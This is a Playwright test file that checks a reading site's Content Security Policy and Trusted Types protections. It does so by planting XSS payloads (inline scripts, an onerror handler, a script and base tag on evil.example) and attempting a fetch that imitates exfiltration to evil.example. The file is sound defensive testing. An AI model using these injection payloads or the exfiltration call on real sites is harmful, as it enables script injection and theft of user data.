import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { openReader } from './reader.ts'
import { openTourSites, type Sites, tour } from './tour.ts'

const pick = '/picks/the-footbridge-and-its-thirty-one-owners'

let browser: Browser
let sites: Sites
beforeAll(async () => {
  ;[browser, sites] = await Promise.all([launchBrowser(), openTourSites()])
})
afterAll(async () => {
  await browser.close()
  await sites.drop()
})

test('no page breaks the policy it is sent with, and none asks another host for anything [HD-02]', async () => {
  const { page, asked, violations, complaints } = await openReader(browser)
  const seen: string[] = []
  await tour(page, sites, async (name) => {
    seen.push(name)
  })
  await page.waitForLoadState('networkidle')
  expect(violations).toEqual([])
  expect(
    complaints.filter((text) => !/^Failed to load resource: the server responded with a status of (404|500)/.test(text)),
  ).toEqual([])
  const hosts = new Set(asked.map((address) => new URL(address).origin))
  expect([...hosts].toSorted()).toEqual([sites.full.origin, sites.empty.origin].toSorted())
  expect(seen.length).toBeGreaterThan(20)
})

test('a script that found its way into a page does not run [HD-02]', async () => {
  const { page, context, asked, violations } = await openReader(browser)
  const planted = [
    '<script>tampered = 1</script>',
    '<script src="https://evil.example/a.js"></script>',
    '<img src="/no-picture" onerror="tampered = 2">',
    '<style>main { display: none }</style>',
    '<base href="https://evil.example/">',
  ].join('')
  await context.route(`**${pick}`, async (route) => {
    const response = await route.fetch()
    await route.fulfill({ response, body: (await response.text()).replace('<main', `${planted}<main`) })
  })
  await page.goto(sites.full.origin + pick, { waitUntil: 'networkidle' })
  expect(await page.evaluate('typeof tampered')).toBe('undefined')
  expect(await page.locator('main').isVisible()).toBe(true)
  expect(withoutPage(violations)).toEqual([
    'base-uri: https://evil.example/',
    'script-src-attr: inline',
    'script-src-elem: https://evil.example/a.js',
    'script-src-elem: inline',
    'style-src-elem: inline',
  ])
  expect(asked.filter((address) => !address.startsWith(sites.full.origin))).toEqual([])
})

test('a script that runs all the same can neither turn text into HTML or code nor send anything away [HD-02]', async () => {
  const { page, asked, violations } = await openReader(browser)
  await page.goto(sites.full.origin + pick)
  const refused = await page.evaluate(tamper)
  expect(refused).toEqual([
    'innerHTML',
    'insertAdjacentHTML',
    'write',
    'parser',
    'script text',
    'attribute',
    'another policy',
    'its policy again',
    'fetch',
  ])
  expect(await page.evaluate('typeof tampered')).toBe('undefined')
  await expect
    .poll(() => withoutPage(violations))
    .toEqual([
      'connect-src: https://evil.example/?what-was-read',
      'require-trusted-types-for: trusted-types-sink',
      'trusted-types: trusted-types-policy',
    ])
  expect(asked.filter((address) => !address.startsWith(sites.full.origin))).toEqual([])
})

/** Tries to bring in code by every door and gives the names of those that were shut. Runs in the page. */
async function tamper(): Promise<string[]> {
  const html = '<img src="/no-picture" onerror="tampered = 1">'
  const script = document.createElement('script')
  const { trustedTypes } = globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }
  const attempts: Record<string, () => unknown> = {
    innerHTML: () => Object.assign(document.body, { innerHTML: html }),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', html),
    write: () => document.write(html),
    parser: () => new DOMParser().parseFromString(html, 'text/html'),
    'script text': () => Object.assign(script, { textContent: 'tampered = 2' }),
    attribute: () => document.body.setAttribute('onclick', 'tampered = 3'),
    'another policy': () => trustedTypes.createPolicy('other', {}),
    'its policy again': () => trustedTypes.createPolicy('tessera', { createHTML: (text: string) => text }),
    fetch: () => fetch('https://evil.example/?what-was-read'),
  }
  const refused: string[] = []
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt()
    } catch {
      refused.push(name)
    }
  }
  return refused
}

/** Each kind of violation once. */
function withoutPage(violations: readonly string[]): string[] {
  return [...new Set(violations.map((text) => text.replace(/ on .*/, '')))].toSorted()
}
